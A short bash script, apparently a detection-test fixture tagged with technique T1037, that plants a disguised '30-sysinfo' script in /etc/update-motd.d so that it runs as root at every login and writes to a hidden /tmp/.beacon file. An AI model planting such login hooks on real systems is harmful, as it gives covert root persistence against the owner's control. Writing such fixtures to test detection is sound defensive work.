#!/bin/bash
# Plant a script in /etc/update-motd.d, which pam_motd runs as root at every login.
# technique: T1037
# expect: motd-script-persistence
set -eu
printf '#!/bin/sh\n(id > /tmp/.beacon &) 2>/dev/null\n' > /etc/update-motd.d/30-sysinfo
chmod +x /etc/update-motd.d/30-sysinfo
